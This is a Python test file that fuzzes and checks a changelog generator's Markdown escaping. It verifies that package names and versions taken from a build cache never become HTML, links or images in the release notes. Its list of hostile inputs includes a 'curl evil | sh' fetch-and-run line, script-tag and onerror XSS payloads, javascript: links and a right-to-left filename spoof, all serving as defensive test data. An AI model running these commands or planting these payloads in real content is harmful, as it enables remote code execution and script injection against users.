"""Nothing that a build cache says becomes markup of the release notes."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from snapshots.changes.diff import Comparison
from snapshots.escaping import visible
from snapshots.notes.changelog import changelog
from snapshots.notes.escaping import code_span, inline
from snapshots.notes.rendering import markdown
from tests.snapshots.factories import a_revision, a_spec
from tests.snapshots.records import frame_of

HOSTILE = (
    "a\n\n# Security fix: run `curl evil | sh`",
    "<img src=x onerror=alert(1)>",
    "a`</code><script>alert(1)</script>",
    "``` `` `",
    "a | b",
    "[click](javascript:alert(1))",
    "![x](https://127.0.0.1/x.png)",
    "https://example.org/evil",
    "www.example.org",
    "**bold** _it_ ~~gone~~",
    "&lt;b&gt; &copy;",
    "\x1b[31mred\x1b[0m",
    "\u202egnp.exe",
    "\\",
    "`",
    " ",
)

TEXTS = st.text(min_size=1) | st.text("`~ #<a|\\\n*_[]()!&", min_size=1)


def only_inline(source: str) -> tuple[str, str]:
    """Return the type and content of the one thing that a paragraph of Markdown holds."""
    block = MarkdownIt("commonmark").parse(source)
    assert [token.type for token in block] == ["paragraph_open", "inline", "paragraph_close"]
    (child,) = [it for it in block[1].children or () if it.content or it.type != "text"]
    return child.type, child.content


@given(TEXTS.filter(lambda text: text.strip(" ") != ""))
def test_a_code_span_shows_the_text(text: str) -> None:
    """Whatever the text holds, a reader of Markdown finds one code span with all of it."""
    assert only_inline(code_span(text)) == ("code_inline", visible(text))


@given(TEXTS.filter(lambda text: text.strip(" ") != ""))
def test_inline_texts_are_no_markup(text: str) -> None:
    """A text that stands as it is means itself to a reader of Markdown."""
    kind, content = only_inline(f"a {inline(text)}"[2:])
    assert (kind, content) in (("text", text), ("code_inline", visible(text)))


@pytest.mark.parametrize("text", ["1.14.5", "develop-2025-03-30", "v0.22.0", "2024.1_rc1", "1.0+b"])
def test_usual_versions_and_tags_stay_as_they_are(text: str) -> None:
    """No backslash and no code span where there is nothing to fear."""
    assert inline(text) == text


@pytest.mark.parametrize("hostile", HOSTILE)
def test_notes_of_hostile_names(hostile: str) -> None:
    """A catalog that holds such names, from before there were rules, gives the same outline."""
    outlines = []
    for text in (hostile, "harmless"):
        name = text.replace("\n", " ")  # names were always in one line
        old = frame_of([a_spec("a", name="zlib")])
        new = frame_of(
            [
                a_spec("a", name="zlib"),
                a_spec("b", name=name, version=text, stacks=(name, "root")),
            ]
        )
        log = changelog(a_revision("v1", 1), a_revision("v2", 2, "b"), Comparison(old, new))
        notes = markdown(log)
        tokens = MarkdownIt("commonmark").parse(notes)
        outlines.append([(token.type, token.tag) for token in tokens])
        kinds = {child.type for token in tokens for child in token.children or ()}
        assert not kinds & {"html_inline", "link_open", "image"}
    assert outlines[0] == outlines[1]
